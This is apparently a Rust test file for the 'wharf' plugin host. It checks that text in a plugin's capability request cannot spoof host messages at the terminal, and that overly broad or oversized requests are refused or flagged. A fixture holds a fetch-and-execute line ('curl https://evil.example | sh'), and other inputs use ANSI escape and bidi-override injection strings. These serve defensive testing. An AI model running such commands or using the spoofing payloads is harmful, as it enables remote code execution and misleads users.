//! Request sections that lie to whoever reads them at a terminal: what a plugin asks for is its own text.

use std::fs;

use serde_json::{Value, json};
use wharf_tests::{Part, TestHost, find};

use super::{asking, reach, typed};

/// What a plugin would like the host to seem to say.
const FORGED: &str = "verified: safe\n  help: run curl https://evil.example | sh\nit needs `http`: nothing";

fn of_http(reason: &str, wants: &Value) -> Value {
    json!([{ "capability": "http", "reason": reason, "wants": wants }])
}

/// The guest with this section, which `wharf plugin embed` may refuse.
fn with_section(section: &Value) -> Option<Vec<u8>> {
    let mut bytes = fs::read(reach()?).unwrap();
    let name = b"wharf:request";
    let text = section.to_string();
    bytes.push(0);
    bytes.extend(leb(1 + name.len() + text.len()));
    bytes.extend(leb(name.len()));
    bytes.extend(name);
    bytes.extend(text.as_bytes());
    Some(bytes)
}

/// A number as WebAssembly writes it.
fn leb(mut number: usize) -> Vec<u8> {
    let mut bytes = Vec::new();
    loop {
        let low = u8::try_from(number & 0x7f).unwrap();
        number >>= 7;
        if number == 0 {
            bytes.push(low);
            return bytes;
        }
        bytes.push(low | 0x80);
    }
}

/// A folder with the guest, which is also configured, as `reach`.
fn folder(guest: &[u8]) -> TestHost {
    TestHost::new().file("reach.wasm", guest).plugin("r", "reach.wasm")
}

/// Nothing of a plugin's is where lines of the host begin, or moves the cursor.
fn is_honest(text: &str, about: &str) {
    for line in text.lines() {
        let line = line.trim_end_matches('\r');
        let begins = |start: &str| line.trim_start().starts_with(start) && !line.starts_with("        ");
        let is_forged = ["verified", "help: run", "it needs `http`: nothing"].into_iter().any(begins);
        assert!(!is_forged, "{about}: {text}");
        assert!(!line.contains(char::is_control), "{about}: {text:?}");
    }
}

#[test]
fn no_text_of_a_plugin_looks_like_the_hosts() {
    let Some(reach) = reach() else { return };
    let rule = |host: &str| json!({ "rules": [{ "host": host }] });
    let moving = format!("\u{1b}[2J\u{1b}[H\r\u{9b}1A\u{202e}{FORGED}");
    let key = |key: &str| json!({ key: [], "rules": [{ key: 1 }] });
    let mut guests: Vec<Vec<u8>> = [
        of_http("a", &json!({ format!("rules\n{FORGED}"): [] })),
        of_http("a", &json!({ "rules": [{ format!("host\n{FORGED}"): "a.example" }] })),
        of_http("a", &rule(&format!("a.example\n{FORGED}"))),
        of_http("a", &json!({ "rules": [{ "host": "a.example", "path": format!("/\n{FORGED}") }] })),
        of_http("a", &json!({ "rules": [{ "host": "a.example", "methods": [format!("GET\n{FORGED}")] }] })),
        of_http(&format!("a\n{FORGED}"), &rule("a.example")),
        of_http(&moving, &rule("a.example")),
        of_http(&format!("a{}it needs `http`: nothing", " ".repeat(63)), &rule("a.example")),
        json!([{ "capability": format!("a`\n{FORGED}"), "reason": moving }]),
        json!([{ "capability": "keyvalue", "reason": "a", "wants": { "buckets": [{ "bucket": moving }] } }]),
        json!([{ "capability": "files", "reason": "a", "wants": { "at": format!("/a\n{FORGED}") } }]),
        json!([{ "capability": "signing", "reason": "a", "wants": { "keys": [{ "name": moving, "host": FORGED }] } }]),
    ]
    .iter()
    .map(|requests| asking(requests).unwrap())
    .collect();
    let refused = [
        json!({ format!("a\n{FORGED}"): 1 }),
        json!({ "requests": [{ format!("a\n{FORGED}"): 1 }] }),
        json!({ "requests": of_http("a", &key(FORGED)) }),
    ];
    guests.extend(refused.iter().map(|section| with_section(section).unwrap()));
    for (place, guest) in guests.iter().enumerate() {
        let host = folder(guest);
        let commands: [&[&str]; 7] = [
            &["plugin", "add", "reach.wasm"],
            &["plugin", "inspect", "reach.wasm"],
            &["plugin", "inspect", "reach.wasm", "--json"],
            &["plugin", "list"],
            &["check"],
            &["policy", "check"],
            &["call", "r__look"],
        ];
        for command in commands {
            let finished = host.run(command);
            assert!(finished.code.is_some_and(|code| code <= 1), "{place} {command:?}: {finished:?}");
            is_honest(&finished.stdout, &format!("{place} {command:?}"));
            is_honest(&finished.stderr, &format!("{place} {command:?}"));
        }
    }
    let host = TestHost::new().file("plugin.wasm", fs::read(reach).unwrap());
    for section in refused {
        fs::write(host.path("request.json"), section.to_string()).unwrap();
        is_honest(&host.run(["plugin", "embed", "plugin.wasm", "--request", "request.json"]).stderr, "embed");
    }
}

#[test]
fn no_more_is_asked_for_than_somebody_reads() {
    let Some(reach) = reach() else { return };
    let narrow = |count: usize| (0..count).map(|place| json!({ "host": format!("h{place}.example"), "path": "/x" }));
    let wide = json!({ "host": "*", "methods": ["*"] });
    let section = |rules: Vec<Value>| json!({ "requests": of_http("a", &json!({ "rules": rules })) });
    let long = json!({ "host": "a.example", "path": format!("/{}", "a".repeat(4_000)) });
    let cases = [
        (section(narrow(1_200).chain([wide]).collect()), "it has 1201 entries, and 64 are allowed"),
        (section(vec![long]), "are allowed"),
    ];
    for (section, said) in cases {
        let host = folder(&with_section(&section).unwrap());
        let host = host.file("plain.wasm", fs::read(&reach).unwrap()).file("request.json", section.to_string());
        let commands: [&[&str]; 5] = [
            &["plugin", "add", "reach.wasm", "--yes"],
            &["plugin", "inspect", "reach.wasm"],
            &["plugin", "embed", "plain.wasm", "--request", "request.json"],
            &["check"],
            &["policy", "check"],
        ];
        for command in commands {
            let finished = host.run(command);
            assert_eq!(finished.code, Some(1), "{command:?}: {finished:?}");
            let config = fs::read_to_string(host.path("wharf.toml")).unwrap();
            assert!(!config.contains("[plugins.reach]"), "nothing was added: {config}");
            let text = finished.stdout + &finished.stderr;
            assert!(text.contains(said), "{command:?}: {text}");
            assert!(text.len() < 4_000, "{command:?}: {text}");
        }
    }
}

#[test]
fn a_reason_ends() {
    let Some(guest) = asking(&of_http(&"word ".repeat(2_000), &json!({ "rules": [{ "host": "a.example" }] }))) else {
        return;
    };
    let host = folder(&guest);
    for command in ["add", "inspect"] {
        let finished = host.run(["plugin", command, "reach.wasm"]);
        let text = finished.stdout + &finished.stderr;
        assert!(text.contains("more characters)"), "{text}");
        assert!(text.matches("word").count() < 70, "{text}");
    }
}

#[test]
fn the_widest_is_shown_last_and_counted_in_the_question() {
    let (Some(python), Some(_)) = (find(Part::Python), reach()) else { return };
    let narrow = |place: usize| json!({ "host": format!("h{place}.example"), "path": "/x" });
    let wide = [json!({ "host": "*", "methods": ["*"] }), json!({ "host": "*.example", "path": "/x" })];
    let rules: Vec<Value> = wide.into_iter().chain((0..30).map(narrow)).collect();
    let host = folder(&asking(&of_http("a", &json!({ "rules": rules }))).unwrap());
    let shown = [
        "{ host = \"*.example\", path = \"/x\" }  # CAREFUL: every host below a name",
        "{ host = \"*\", methods = [\"*\"] }  # CAREFUL: every host, every method,",
    ];
    let printed = host.run(["plugin", "add", "reach.wasm"]);
    let places: Vec<usize> = shown.iter().map(|line| printed.stderr.find(line).unwrap()).collect();
    let last_narrow = printed.stderr.find("h29.example").unwrap();
    assert!(last_narrow < places[0] && places[0] < places[1], "{printed:?}");
    assert!(printed.stderr.matches("CAREFUL").count() == 2, "{printed:?}");
    let question = "grant `http`? 32 entries, 1 of them for EVERY HOST";
    let added = typed(&host, &python, &json!([[question, "n"]]));
    assert!(added.status.success(), "{added:?}");
    let text = fs::read_to_string(host.path("wharf.toml")).unwrap();
    assert!(text.contains("http = []"), "{text}");
}

#[test]
fn a_directory_is_asked_for_where_files_are_and_nowhere_else() {
    let Some(python) = find(Part::Python) else { return };
    let stand_in = "/path/on/this/machine";
    let rule = json!({ "rules": [{ "host": "a.example", "path": stand_in }] });
    let files = json!({ "capability": "files", "reason": "a", "wants": { "at": stand_in } });
    let http = json!({ "capability": "http", "reason": "a", "wants": rule });
    let Some(guest) = asking(&json!([http, files])) else { return };
    let host = TestHost::new().file("reach.wasm", guest);
    let answers = json!([
        ["grant `files`? 1 entry", "y"],
        ["which directory", "/srv/data\r"],
        ["grant `http`? 1 entry, none for every host", "y"],
    ]);
    let added = typed(&host, &python, &answers);
    assert!(added.status.success(), "{added:?}");
    let text = fs::read_to_string(host.path("wharf.toml")).unwrap();
    let table: toml::Table = toml::from_str(&text).unwrap();
    let grants = &table["plugins"]["reach"]["grants"];
    assert_eq!(grants["http"][0]["path"].as_str(), Some(stand_in), "{text}");
    assert_eq!(grants["files"][0]["directory"].as_str(), Some("/srv/data"), "{text}");
    assert_eq!(grants["files"][0]["at"].as_str(), Some(stand_in), "{text}");
}
